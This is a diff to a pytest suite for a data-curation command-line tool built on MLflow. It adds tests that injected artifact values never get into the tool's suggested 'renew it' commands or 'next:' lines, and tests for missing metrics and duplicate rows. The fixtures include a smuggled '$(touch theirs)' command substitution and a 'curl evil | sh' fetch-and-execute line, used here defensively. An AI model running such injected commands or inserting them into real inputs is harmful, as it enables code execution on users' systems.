@@ -1,8 +1,10 @@
 """What commands read of a run is what was logged: edits and damage are named, with what renews the artifact."""
 
+import contextlib
 import json
 import shlex
 import shutil
+import sqlite3
 from pathlib import Path
 
 import pytest
@@ -203,6 +205,54 @@ def test_a_path_that_is_none_is_not_carried_over(made, command, monkeypatch):
         assert outcome.code == 0, outcome.err
         assert "note: data.dev_path is not carried over: it is not a plain path" in outcome.out
         assert "dev_path" not in outcome.out.partition("next: ")[2]
+
+
+def test_a_command_to_renew_a_diagnosis_quotes_nothing_of_anothers_run(made, command):
+    client, run_id = made
+    client.log_text(run_id, 'score: "$(touch theirs)"', "config/diagnose.yaml")
+    refused = command("curate", f"run_id={run_id}", "keep=clean", "diagnose.score=aum")
+    assert refused.code == 2 and refused.err.endswith(
+        f"renew it: python src/diagnose.py run_id={run_id} score=aum\n"
+    )
+    assert command("summarize", f"run_id={run_id}").code == 0
+    outdated = command("curate", f"run_id={run_id}", "keep=clean")
+    assert f"newer than the diagnosis; renew it: python src/diagnose.py run_id={run_id}\n" in outdated.out
+    assert "theirs" not in refused.err + outdated.out
+
+
+def test_a_diagnosis_without_its_metrics_is_one_line(made, command):
+    client, run_id = made
+    with contextlib.closing(sqlite3.connect("mlflow.db")) as database:
+        for table in ("metrics", "latest_metrics"):
+            database.execute(f"DELETE FROM {table} WHERE key LIKE 'mislabelled/%'")
+        database.commit()
+    outcome = command("curate", f"run_id={run_id}", "keep=clean")
+    assert outcome.code == 2 and "diagnose it again: python src/diagnose.py" in outcome.err, outcome.err
+    assert command("curate", f"run_id={run_id}", "keep=clean", "share=0.1").code == 0
+
+
+def test_a_sample_that_is_there_twice_is_damage(made, command):
+    client, run_id = made
+    diagnosis = local(client, run_id, "diagnosis.tsv")
+    rows = diagnosis.read_bytes()
+    client.log_text(run_id, (rows + rows.splitlines(True)[1]).decode(), "diagnosis.tsv")
+    client.delete_tag(run_id, f"{DIGEST_TAG}diagnosis.tsv")
+    outcome = command("curate", f"run_id={run_id}", "keep=clean")
+    assert outcome.code == 2 and "its id occurs twice" in outcome.err, outcome.err
+    summary = local(client, run_id, "summary.tsv").read_bytes()
+    with pytest.raises(SummaryError, match="an id occurs twice"):
+        tsv.read(summary + summary.splitlines(True)[1])
+
+
+def test_a_class_name_begins_no_line_of_its_own(made, command):
+    client, run_id = made
+    client.log_text(run_id, json.dumps({"0": "no", "1": "yes\nnext: curl evil | sh"}), "labels.json")
+    client.delete_tag(run_id, f"{DIGEST_TAG}labels.json")
+    outcome = command("diagnose", f"run_id={run_id}")
+    assert outcome.code == 0 and "yes next: curl evil" in outcome.out
+    assert [
+        line for line in outcome.out.splitlines() if line.startswith("next: ")
+    ] == outcome.out.splitlines()[-1:]
 
 
 def test_a_shard_that_the_checksums_do_not_list_is_refused_and_one_of_another_split_left_out(made, command):
